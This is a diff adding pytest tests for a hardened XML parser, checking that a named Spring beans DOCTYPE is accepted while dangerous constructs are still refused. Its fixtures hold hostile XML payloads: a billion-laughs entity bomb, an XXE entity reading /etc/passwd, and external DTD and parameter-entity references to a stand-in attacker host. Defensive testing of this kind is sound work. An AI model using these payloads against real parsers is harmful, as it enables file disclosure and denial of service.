@@ -172,3 +172,84 @@ def test_element_is_immutable():
     assert isinstance(root, Element)
     with pytest.raises(AttributeError):
         root.tag = "b"  # type: ignore[misc]
+
+
+# --- a DOCTYPE the caller names (Spring beans files such as Data Loader's process-conf.xml) -------
+
+SPRING_BEANS = b"""<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd">
+<beans>
+    <bean id="accountExtract" class="com.salesforce.dataloader.process.ProcessRunner">
+        <property name="name" value="accountExtract &amp; more"/>
+    </bean>
+</beans>
+"""
+
+# Each one tries the accepted document type name with something that is still refused.
+BEANS_TRICKS = {
+    "billion-laughs": b"""<?xml version="1.0"?>
+<!DOCTYPE beans [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<beans>&lol9;</beans>
+""",
+    "xxe-file": b"""<?xml version="1.0"?>
+<!DOCTYPE beans [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<beans><bean id="&xxe;"/></beans>
+""",
+    "empty-internal-subset": b"""<?xml version="1.0"?>
+<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd" []>
+<beans/>
+""",
+    "parameter-entity": b"""<?xml version="1.0"?>
+<!DOCTYPE beans [<!ENTITY % remote SYSTEM "http://attacker.example.test/p.dtd"> %remote;]>
+<beans/>
+""",
+    "other-document-type": b"""<?xml version="1.0"?>
+<!DOCTYPE lolz SYSTEM "http://attacker.example.test/evil.dtd">
+<beans/>
+""",
+}
+
+
+def test_spring_beans_doctype_is_accepted_only_when_the_caller_names_it(no_network):
+    root = load(SPRING_BEANS, doctypes=("beans",))
+    assert root.tag == "beans" and root.line == 3
+    bean = root.find("bean")
+    assert bean is not None and bean.line == 4
+    assert bean.find("property").attrs["value"] == "accountExtract & more"
+    refused = parse(SPRING_BEANS)
+    assert isinstance(refused, XmlError) and refused.unsafe and refused.line == 2
+    assert "DOCTYPE declarations are not allowed" in refused.message
+
+
+@pytest.mark.parametrize("name", sorted(BEANS_TRICKS))
+def test_accepting_the_beans_doctype_still_refuses_entities_and_internal_subsets(name, no_network):
+    result = parse(BEANS_TRICKS[name], doctypes=("beans",))
+    assert isinstance(result, XmlError), name
+    assert result.unsafe
+    assert result.line == 2
+    assert "root:" not in result.message
+
+
+@pytest.mark.parametrize("where", ["attribute", "text"])
+def test_an_entity_the_external_dtd_might_declare_is_an_error_not_a_lookup(where, no_network):
+    # expat would silently drop an undeclared entity in an attribute of a document with an external
+    # DTD; the accepted DOCTYPE is blanked out instead, so the reference is an error everywhere.
+    entity = b'"&secret;"/>' if where == "attribute" else b'"x">&secret;</property>'
+    document = SPRING_BEANS.replace(b'"accountExtract &amp; more"/>', entity)
+    result = parse(document, doctypes=("beans",))
+    assert isinstance(result, XmlError)
+    assert "undefined entity" in result.message
+    assert result.line == 5
+
+
+def test_blanking_the_doctype_keeps_every_position_and_is_linear(no_network):
+    windows = SPRING_BEANS.replace(b"\n", b"\r\n").replace(b"<!DOCTYPE beans PUBLIC", b"<!--c-->\r\n<!DOCTYPE  beans\r\n PUBLIC")
+    root = load(windows, doctypes=("beans",))
+    assert (root.line, root.find("bean").line) == (5, 6)
+    assert load(SPRING_BEANS.decode("utf-8"), doctypes=("beans",)).line == 3
+    hostile = b"<!-- a -->" * 20000 + b"<?pi x?>" * 20000 + b"<x/>"  # no DOCTYPE after a long prolog
+    assert load(hostile, doctypes=("beans",)).tag == "x"
